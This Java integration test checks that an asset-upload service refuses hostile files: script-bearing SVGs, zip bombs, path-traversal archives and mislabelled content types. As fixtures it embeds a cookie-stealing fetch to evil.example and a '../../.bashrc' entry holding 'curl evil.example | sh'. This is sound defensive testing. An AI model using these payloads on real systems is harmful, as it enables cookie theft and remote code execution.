package com.brandcluster.assets.storage;

import com.brandcluster.assets.AssetHttp.Part;
import com.brandcluster.assets.AssetsIntegrationTest;
import com.brandcluster.testsupport.ApiClient;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile and mistaken uploads, as a new asset and as a new version of one: each is refused with its own problem
 * detail and stores nothing (GridFS holds as many files and chunks as before, no asset or version is added).
 */
class UploadAttacksIT extends AssetsIntegrationTest {

    private String cluster;
    private String secretariat;
    private String assetId;

    @BeforeEach
    void asset() {
        cluster = cluster();
        secretariat = secretariatOf(cluster);
        assetId = draft(cluster, Map.of());
    }

    @Test
    void refusesAnSvgWithAScript() {
        byte[] svg = TestFiles.svg("<script type=\"text/javascript\">fetch('https://evil.example/'+document.cookie)"
                + "</script><circle r=\"4\" onmouseover=\"alert(1)\"/>");

        ApiClient.Response refused = refusedBoth(Part.file("mark.svg", "image/svg+xml", svg), 422, "unsafe-file");

        assertThat(refused.json().get("findings").valueStream().map(f -> f.asString()))
                .containsExactly("a <script> element", "an event handler attribute onmouseover on <circle>");
    }

    @Test
    void refusesAnSvgThatLoadsSomethingFromOutside() {
        refusedBoth(Part.file("mark.svg", "image/svg+xml",
                TestFiles.svg("<image href=\"https://tracker.example/pixel.png\" width=\"1\" height=\"1\"/>")),
                422, "unsafe-file");
    }

    @Test
    void refusesAnHtmlFileRenamedPng() {
        ApiClient.Response refused = refusedBoth(Part.file("logo.png", "image/png", TestFiles.html()), 415,
                "unsupported-media-type");

        assertThat(refused.json().get("accepted").valueStream().map(a -> a.asString()))
                .contains("image/png", "image/svg+xml", "application/zip", "font/woff2");
    }

    @Test
    void refusesAZipBombInATemplate() {
        ApiClient.Response refused = refusedBoth(Part.file("deck-template.zip", "application/zip",
                TestFiles.zipBomb(64)), 422, "unsafe-file");

        assertThat(refused.at("/detail")).contains("compression ratio");
    }

    @Test
    void refusesAGigabyteZipBombUploadedAsATemplate() {
        ApiClient.Response refused = refusedBoth(Part.file("deck-template.zip", "application/zip",
                TestFiles.zeroBomb(1)), 422, "unsafe-file");

        assertThat(refused.at("/detail")).contains("compression ratio");
    }

    @Test
    void refusesATemplateWhoseEntriesClimbOutOfTheFolder() {
        refusedBoth(Part.file("deck-template.zip", "application/zip", TestFiles.zip(Map.of(
                "../../.bashrc", "curl evil.example | sh".getBytes(StandardCharsets.UTF_8)))), 422, "unsafe-file");
    }

    @Test
    void refusesADeclaredContentTypeTheBytesContradict() {
        ApiClient.Response refused = refusedBoth(Part.file("guidelines.pdf", "application/pdf", TestFiles.png(500)),
                422, "content-type-mismatch");

        assertThat(refused.at("/declared")).isEqualTo("application/pdf");
        assertThat(refused.at("/detected")).isEqualTo("image/png");
    }

    @Test
    void refusesAFileAboveTheConfiguredLimit() {
        refusedBoth(Part.file("poster.png", "image/png", TestFiles.png(2 * 1024 * 1024)), 413, "payload-too-large");
    }

    @Test
    void refusesAPartAboveTheMultipartLimit() {
        refusedBoth(Part.file("poster.png", "image/png", TestFiles.png(3 * 1024 * 1024 + 512 * 1024)), 413,
                "payload-too-large");
    }

    @Test
    void refusesABodyAboveTheRequestLimitBeforeReadingIt() {
        refusedBoth(Part.file("poster.png", "image/png", TestFiles.png(5 * 1024 * 1024)), 413, "payload-too-large");
    }

    @Test
    void refusesAnEmptyFile() {
        refusedBoth(Part.file("empty.png", "image/png", new byte[0]), 422, "empty-file");
    }

    @Test
    void acceptsEveryAllowedTypeWithoutADeclaredType() {
        Stored before = stored();
        Map<String, byte[]> files = Map.of("mark.svg", TestFiles.svg(), "photo.jpg", TestFiles.jpeg(),
                "guidelines.pdf", TestFiles.pdf(), "deck.potx", TestFiles.template(), "brand.ttf", TestFiles.ttf(),
                "brand.woff2", TestFiles.woff2());

        files.forEach((name, bytes) -> assertThat(upload(secretariat, cluster, metadata(Map.of()),
                Part.file(name, "application/octet-stream", bytes)).status()).as(name).isEqualTo(201));

        assertThat(stored().files()).isEqualTo(before.files() + files.size());
    }

    /** Sends the file as a new asset and as a new version: both refused alike, and nothing stored. */
    private ApiClient.Response refusedBoth(Part file, int status, String type) {
        Stored before = stored();

        ApiClient.Response asAsset = upload(secretariat, cluster, metadata(Map.of()), file);
        ApiClient.Response asVersion = http.upload(secretariat, assetPath(assetId) + "/versions", file);

        assertProblem(asAsset, status, type);
        assertProblem(asVersion, status, type);
        assertThat(stored()).isEqualTo(before);
        assertThat(api.as(secretariat).get(assetPath(assetId)).json().get("versions").size()).isEqualTo(1);
        return asAsset;
    }
}
